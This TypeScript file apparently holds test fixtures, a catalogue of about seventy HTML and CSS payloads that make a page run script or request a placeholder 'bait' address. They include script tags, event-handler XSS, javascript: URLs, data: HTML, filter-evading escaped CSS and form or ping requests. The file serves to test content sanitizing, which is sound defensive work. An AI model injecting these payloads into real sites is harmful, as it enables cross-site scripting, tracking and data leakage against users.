/** A way a hostile page tries to make its reader's browser run or fetch something. */
export interface Payload {
  name: string;
  /** The page's body, with `bait` for the address that must not be asked for; one that fires asks for `bait`. */
  html(bait: string): string;
  /** Fires only when a person acts on it. */
  keys?: readonly string[];
}

/** `void`: what a `javascript:` address gives back would replace the page before it has asked. */
const RUN = (bait: string): string => `void(new Image().src='${bait}')`;
const ENTER = ['Tab', 'Enter'];

/** HTML that runs a script. */
const SCRIPTS: Payload[] = [
  { name: 'script', html: (bait) => `<script>${RUN(bait)}</script>` },
  { name: 'script-src', html: (bait) => `<script src="${bait}"></script>` },
  { name: 'script-module', html: (bait) => `<script type="module">${RUN(bait)}</script>` },
  { name: 'img-onerror', html: (bait) => `<img src="data:," onerror="${RUN(bait)}">` },
  { name: 'img-onload', html: (bait) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${RUN(bait)}">` },
  { name: 'svg-onload', html: (bait) => `<svg onload="${RUN(bait)}"></svg>` },
  { name: 'details-ontoggle', html: (bait) => `<details open ontoggle="${RUN(bait)}">x</details>` },
  { name: 'animation-handler', html: (bait) => `<style>@keyframes k{}p{animation:k 1ms}</style><p onanimationend="${RUN(bait)}">x</p>` },
  { name: 'focus-handler', html: (bait) => `<input autofocus onfocus="${RUN(bait)}">`, keys: ['Tab'] },
  { name: 'key-handler', html: (bait) => `<input autofocus onkeydown="${RUN(bait)}">`, keys: ['Tab', 'ArrowDown'] },
  { name: 'iframe-srcdoc', html: (bait) => `<iframe srcdoc="<script>${RUN(bait)}</script>"></iframe>` },
  { name: 'iframe-javascript', html: (bait) => `<iframe src="javascript:${RUN(bait)}"></iframe>` },
  { name: 'svg-script', html: (bait) => `<svg><script>${RUN(bait)}</script></svg>` },
  { name: 'svg-script-href', html: (bait) => `<svg><script href="${bait}"></script></svg>` },
  { name: 'foreign-object', html: (bait) => `<svg><foreignObject><img src="data:," onerror="${RUN(bait)}"></foreignObject></svg>` },
  { name: 'svg-onbegin', html: (bait) => `<svg><animate onbegin="${RUN(bait)}" attributeName="x" dur="1s"></animate></svg>` },
  { name: 'link-javascript', html: (bait) => `<a href="javascript:${RUN(bait)}">x</a>`, keys: ENTER },
  {
    name: 'svg-link-javascript',
    html: (bait) => `<svg><a xlink:href="javascript:${RUN(bait)}"><text y="9">x</text></a></svg>`,
    keys: ENTER,
  },
  {
    name: 'svg-set-href',
    html: (bait) => `<svg><a href="#"><set attributeName="href" to="javascript:${RUN(bait)}"></set><text y="9">x</text></a></svg>`,
    keys: ENTER,
  },
  { name: 'form-javascript', html: (bait) => `<form action="javascript:${RUN(bait)}"><button>x</button></form>`, keys: ENTER },
  { name: 'formaction-javascript', html: (bait) => `<form><button formaction="javascript:${RUN(bait)}">x</button></form>`, keys: ENTER },
  { name: 'object-html', html: (bait) => `<object data="data:text/html,<img src='${bait}'>"></object>` },
  { name: 'embed-html', html: (bait) => `<embed src="data:text/html,<img src='${bait}'>" type="text/html">` },
];

/** HTML and CSS that ask for something without a script. */
const REQUESTS: Payload[] = [
  { name: 'img', html: (bait) => `<img src="${bait}">` },
  { name: 'img-srcset', html: (bait) => `<img srcset="${bait} 1x">` },
  { name: 'picture', html: (bait) => `<picture><source srcset="${bait}"><img></picture>` },
  { name: 'input-image', html: (bait) => `<input type="image" src="${bait}">` },
  { name: 'video', html: (bait) => `<video src="${bait}" autoplay muted></video>` },
  { name: 'video-poster', html: (bait) => `<video poster="${bait}"></video>` },
  { name: 'audio', html: (bait) => `<audio src="${bait}" preload="auto" autoplay></audio>` },
  { name: 'table-background', html: (bait) => `<table background="${bait}"><tr><td>x</table>` },
  { name: 'svg-image', html: (bait) => `<svg><image href="${bait}" width="9" height="9"></image></svg>` },
  { name: 'svg-image-xlink', html: (bait) => `<svg><image xlink:href="${bait}" width="9" height="9"></image></svg>` },
  {
    name: 'svg-feimage',
    html: (bait) =>
      `<svg><filter id="f"><feImage href="${bait}"></feImage></filter><rect width="9" height="9" filter="url(#f)"></rect></svg>`,
  },
  { name: 'iframe', html: (bait) => `<iframe src="${bait}"></iframe>` },
  { name: 'object', html: (bait) => `<object data="${bait}"></object>` },
  { name: 'embed', html: (bait) => `<embed src="${bait}">` },
  { name: 'sheet', html: (bait) => `<link rel="stylesheet" href="${bait}">` },
  { name: 'preload', html: (bait) => `<link rel="preload" as="image" href="${bait}">` },
  { name: 'prefetch', html: (bait) => `<link rel="prefetch" href="${bait}">` },
  { name: 'modulepreload', html: (bait) => `<link rel="modulepreload" href="${bait}">` },
  { name: 'meta-refresh', html: (bait) => `<meta http-equiv="refresh" content="0;url=${bait}">` },
  { name: 'base', html: (bait) => `<base href="${bait}/"><img src="relative">` },
  { name: 'css-import', html: (bait) => `<style>@import url("${bait}");</style>` },
  { name: 'css-import-string', html: (bait) => `<style>@import "${bait}";</style>` },
  { name: 'css-background', html: (bait) => `<style>body{background:url(${bait})}</style>` },
  { name: 'css-escaped', html: (bait) => `<style>body{background:\\75 \\72\\6c("${bait}")}</style>` },
  { name: 'css-comment', html: (bait) => `<style>body{/*"*/background:url(${bait})/*"*/}</style>` },
  { name: 'css-image-set', html: (bait) => `<style>body{background-image:image-set("${bait}" 1x)}</style>` },
  { name: 'css-webkit-image-set', html: (bait) => `<style>body{background-image:-webkit-image-set(url(${bait}) 1x)}</style>` },
  { name: 'css-cross-fade', html: (bait) => `<style>body{background-image:-webkit-cross-fade(url(${bait}),url(${bait}),50%)}</style>` },
  { name: 'css-variable', html: (bait) => `<style>:root{--b:url(${bait})}body{background:var(--b)}</style>` },
  {
    name: 'css-property',
    html: (bait) => `<style>@property --p{syntax:"<image>";inherits:true;initial-value:url(${bait})}body{background:var(--p)}</style>`,
  },
  { name: 'css-font', html: (bait) => `<style>@font-face{font-family:f;src:url(${bait})}body{font-family:f}</style>x` },
  { name: 'css-content', html: (bait) => `<style>p::before{content:url(${bait})}</style><p>x</p>` },
  { name: 'css-list', html: (bait) => `<style>li{list-style-image:url(${bait})}</style><ul><li>x</ul>` },
  { name: 'css-border', html: (bait) => `<style>p{border:9px solid;border-image:url(${bait}) 1}</style><p>x</p>` },
  { name: 'css-mask', html: (bait) => `<style>p{mask-image:url(${bait})}</style><p>x</p>` },
  { name: 'css-filter', html: (bait) => `<style>p{filter:url(${bait}#f)}</style><p>x</p>` },
  { name: 'css-media', html: (bait) => `<style>@media all{@supports (color:red){@layer l{p{background:url(${bait})}}}}</style><p>x</p>` },
  { name: 'css-nested', html: (bait) => `<style>body{& p{background:url(${bait})}}</style><p>x</p>` },
  { name: 'style-attribute', html: (bait) => `<p style="background:url(${bait})">x</p>` },
  { name: 'style-attribute-escaped', html: (bait) => `<p style='background:\\55RL("${bait}")'>x</p>` },
  { name: 'svg-fill', html: (bait) => `<svg><rect width="9" height="9" mask="url(${bait}#m)"></rect></svg>` },
  {
    name: 'shadow-style',
    html: (bait) => `<div><template shadowrootmode="open"><style>:host{background:url(${bait})}</style>x</template></div>`,
  },
  { name: 'shadow-image', html: (bait) => `<div><template shadowrootmode="open"><img src="${bait}"></template></div>` },
  { name: 'link', html: (bait) => `<a href="${bait}">x</a>`, keys: ENTER },
  { name: 'svg-link', html: (bait) => `<svg><a href="${bait}"><text y="9">x</text></a></svg>`, keys: ENTER },
  {
    name: 'area',
    html: (bait) => `<map name="m"><area href="${bait}" coords="0,0,9,9"></map><img usemap="#m" width="9" height="9">`,
    keys: ENTER,
  },
  { name: 'ping', html: (bait) => `<a href="#" ping="${bait}">x</a>`, keys: ENTER },
  { name: 'form', html: (bait) => `<form action="${bait}" method="get"><input autofocus><button>x</button></form>`, keys: ENTER },
  { name: 'form-post', html: (bait) => `<form action="${bait}" method="post"><button>x</button></form>`, keys: ENTER },
  { name: 'form-outside', html: (bait) => `<form id="f" action="${bait}"></form><button form="f">x</button>`, keys: ENTER },
];

export const PAYLOADS: readonly Payload[] = [...SCRIPTS, ...REQUESTS];
